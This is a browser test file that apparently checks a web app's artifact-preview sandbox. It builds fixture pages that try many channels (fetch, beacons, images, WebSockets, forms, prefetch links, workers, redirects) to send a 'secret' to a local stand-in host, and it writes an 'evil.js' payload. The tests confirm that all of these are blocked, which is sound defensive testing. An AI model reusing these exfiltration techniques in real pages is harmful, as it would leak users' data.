import assert from "node:assert/strict";
import { createServer } from "node:net";

/** Somewhere else: counts what reaches it, of whatever protocol. */
async function elsewhere() {
  const heard = [];
  const sockets = new Set();
  const listener = createServer((socket) => {
    sockets.add(socket);
    socket.on("error", () => {});
    socket.once("data", (bytes) => {
      heard.push(bytes.toString("latin1").split("\r\n")[0]);
      socket.end("HTTP/1.1 200 OK\r\nContent-Length: 2\r\nAccess-Control-Allow-Origin: *\r\nConnection: close\r\n\r\nok");
    });
  });
  await new Promise((done) => listener.listen(0, "127.0.0.1", done));
  const { port } = listener.address();
  return {
    host: `127.0.0.1:${port}`,
    heard,
    end: () => {
      sockets.forEach((socket) => socket.destroy());
      listener.close();
    },
  };
}

/** A page that tries every way to carry `secret` away, and then says so. */
const leak = (host) => `<!doctype html><title>Leak</title><body><p>working</p><iframe name=hole hidden></iframe>
<script>
const out = "http://${host}/", refused = new Set();
addEventListener("securitypolicyviolation", (event) => { refused.add(event.effectiveDirective); document.body.dataset.refused = [...refused].sort().join(" "); });
const link = (rel, more) => document.head.append(Object.assign(document.createElement("link"), { rel, href: out + rel, ...more }));
const attempt = (work) => { try { return Promise.resolve(work()).catch(() => {}); } catch { return Promise.resolve(); } };
(async () => {
  await attempt(() => fetch(out + "fetch?secret", { mode: "no-cors" }));
  await attempt(() => navigator.sendBeacon(out + "beacon", "secret"));
  await attempt(() => new EventSource(out + "events"));
  await attempt(() => { const call = new XMLHttpRequest(); call.open("POST", out + "xhr"); call.send("secret"); });
  await attempt(() => new Promise((done) => { const image = new Image(); image.onload = image.onerror = done; image.src = out + "img?secret"; }));
  await attempt(() => new Promise((done) => { const socket = new WebSocket("ws://${host}/ws?secret"); socket.onopen = socket.onerror = done; }));
  await attempt(() => import(out + "module.js"));
  await attempt(() => new Worker(out + "worker.js"));
  for (const rel of ["prefetch", "preload", "preconnect", "dns-prefetch", "stylesheet", "icon", "modulepreload"]) await attempt(() => link(rel, rel === "preload" ? { as: "image" } : {}));
  await attempt(() => document.body.append(Object.assign(document.createElement("video"), { src: out + "video" })));
  await attempt(() => { hole.location = out + "frame?secret"; });
  await attempt(() => open(out + "window?secret"));
  await attempt(() => { const form = Object.assign(document.createElement("form"), { action: out + "form", method: "post", target: "hole" }); form.append(Object.assign(document.createElement("input"), { name: "secret" })); document.body.append(form); form.submit(); });
  document.body.dataset.tried = "all";
})();
</script>`;

/** A page that leads its own frame, and the page around it, elsewhere. */
const leave = (host) => `<!doctype html><title>Leave</title><body>
<script>
try { top.location = "http://${host}/top?secret"; } catch {}
location.href = "http://${host}/self?secret";
</script>`;

/** The same by a page's own markup. */
const refresh = (host) => `<!doctype html><title>Refresh</title><meta http-equiv=refresh content="0;url=http://${host}/refresh?secret"><body>leaving`;

const written = (files) => ["run: mkdir -p outputs", ...Object.entries(files).map(([name, text]) => `echo ${Buffer.from(text).toString("base64")} | base64 -d > outputs/${name}`)].join(" && ");

export const STORIES = [
  {
    name: "a preview that tries to send data to another origin reaches nothing",
    async tell({ visit }) {
      const out = await elsewhere();
      try {
        const person = await visit();
        person.expects(/Content Security Policy|violates|Refused to|Blocked opening|allow-popups|Unsafe attempt|sandboxed|chrome-error|Failed to construct|NetworkError|dynamically imported|Blocked form submission/);
        const { page } = person;
        await person.start(written({ "leak.html": leak(out.host), "leave.html": leave(out.host), "refresh.html": refresh(out.host) }));
        await person.idle();
        const at = page.url();
        const shelf = page.getByRole("tablist", { name: "Artifacts of this session" });
        const body = page.locator("iframe.preview").contentFrame().locator("body");
        await shelf.getByRole("tab", { name: /leak\.html/ }).click();
        await body.and(page.locator("iframe.preview").contentFrame().locator("[data-tried=all]")).waitFor();
        for (const directive of ["connect-src", "img-src", "form-action", "frame-src"]) {
          await page.locator("iframe.preview").contentFrame().locator(`body[data-refused~="${directive}"]`).waitFor();
        }
        // A frame that is led elsewhere is refused by the page around it, which stays where it is.
        for (const name of ["leave.html", "refresh.html"]) {
          const refused = page.waitForEvent("console", (message) => /frame-src/.test(message.text()));
          await shelf.getByRole("tab", { name }).click();
          await refused;
        }
        assert.equal(new URL(page.url()).pathname, new URL(at).pathname);
        assert.deepEqual(out.heard, []);
        // It would have been heard.
        assert.equal(await (await fetch(`http://${out.host}/control`)).text(), "ok");
        assert.equal(out.heard.length, 1);
      } finally {
        out.end();
      }
    },
  },
  {
    name: "a script that an agent wrote is not executed when the page's own origin asks for it as a script",
    async tell({ server, visit }) {
      const person = await visit();
      person.expects(/MIME type|Refused to execute|Failed to load module script|unsupported MIME|ServiceWorker|violates|Content Security Policy|Refused to apply style/);
      const { page } = person;
      const id = await person.start(written({ "evil.js": "self.pwned = 1; self.postMessage?.('pwned');", "evil.css": "body { --pwned: 1 }" }));
      await person.idle();
      assert.match((await server.file(id, "outputs/evil.js")).toString(), /pwned/);
      const { artifacts } = await server.api(`/api/sessions/${id}/artifacts`);
      const paths = [
        `/api/sessions/${id}/fs/read?path=outputs%2Fevil.js`,
        `/api/sessions/${id}/versions/1/file?path=outputs%2Fevil.js`,
        ...artifacts.filter((one) => /evil\.js/.test(one.path ?? one.name)).map((one) => `/api/sessions/${id}/artifacts/${one.id}/content`),
      ];
      const outcomes = await page.evaluate(async (sources) => {
        const load = (tag, more) => new Promise((done) => {
          const one = Object.assign(document.createElement(tag), more);
          one.onload = () => done("loaded");
          one.onerror = () => done("refused");
          document.head.append(one);
        });
        const worker = (src) => new Promise((done) => {
          try {
            const one = new Worker(src);
            one.onmessage = () => done("executed");
            one.onerror = () => done("refused");
          } catch {
            done("refused");
          }
        });
        const all = [];
        for (const src of sources) {
          all.push({
            src, status: (await fetch(src)).status,
            script: await load("script", { src }), module: await load("script", { src, type: "module" }), imported: await import(src).then(() => "executed", () => "refused"),
            worker: await worker(src), service: await navigator.serviceWorker.register(src).then(() => "registered", () => "refused"),
          });
        }
        return all;
      }, paths);
      for (const { src, ...outcome } of outcomes) {
        assert.deepEqual(outcome, { status: 200, script: "refused", module: "refused", imported: "refused", worker: "refused", service: "refused" }, src);
      }
      assert.equal(await page.evaluate(() => "pwned" in window), false);
      const style = `/api/sessions/${id}/fs/read?path=outputs%2Fevil.css`;
      await page.evaluate((href) => new Promise((done) => {
        document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href, onload: done, onerror: done }));
      }), style);
      assert.equal(await page.evaluate(() => getComputedStyle(document.body).getPropertyValue("--pwned")), "");
    },
  },
  {
    name: "a browser whose token is revoked loses its live page and says that it was signed out",
    async tell({ server, visit, pictures }) {
      const person = await visit();
      const id = await person.start("count to 9000");
      await person.running();
      const { tokenId, secret } = await server.api("/api/tokens", { method: "POST", body: { name: "Guest", scope: "admin:ro" } });
      const guest = await visit({ token: secret });
      await guest.page.goto(`${guest.base}/sessions/${id}`);
      await guest.sees("1 2 3 4 5");
      // Nothing but the streams that are open may say it: the page asks for nothing in between.
      const revoked = server.api(`/api/tokens/${tokenId}`, { method: "DELETE" });
      await guest.page.getByRole("alert").getByText("You were signed out", { exact: false }).waitFor({ timeout: 20_000 });
      await revoked;
      assert.equal(await guest.log().count(), 0, "nothing of the session stays");
      if (pictures) await guest.page.screenshot({ path: `${pictures}/signed-out.png` });
      await guest.page.reload();
      await guest.page.getByRole("heading", { name: "Sign in to Warren" }).waitFor();
      await guest.page.getByLabel("Token").fill(server.token);
      await guest.page.keyboard.press("Enter");
      await guest.sees("1 2 3 4 5");
      await person.page.getByRole("button", { name: "Stop" }).click();
      await person.idle();
    },
  },
];
